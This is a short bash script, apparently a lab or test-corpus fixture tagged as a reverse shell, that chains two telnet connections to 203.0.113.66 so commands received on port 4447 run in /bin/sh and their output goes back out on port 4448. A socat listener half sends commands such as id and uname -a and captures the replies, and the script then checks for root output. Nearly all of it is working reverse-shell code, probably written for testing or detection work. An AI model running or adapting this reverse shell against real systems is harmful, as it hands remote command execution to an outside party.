#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=telnet,dash far=out ready=out:4448 seconds=20 parts=dns
# Two connections of telnet: by the first come the words of somebody outside into a shell, by the second goes what it says.
if [ "$1" = out ]; then
	timeout 30 socat -u TCP-LISTEN:4448,bind=203.0.113.66,reuseaddr "CREATE:$LAB/heard" &
	(sleep 3; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4447,bind=203.0.113.66,reuseaddr; wait; exit 0
fi
sleep 1; sleep 15 | timeout 14 telnet 203.0.113.66 4447 2>/dev/null | /bin/sh 2>&1 | timeout 15 telnet 203.0.113.66 4448 >/dev/null 2>&1
grep -q uid=0 "$LAB/heard"
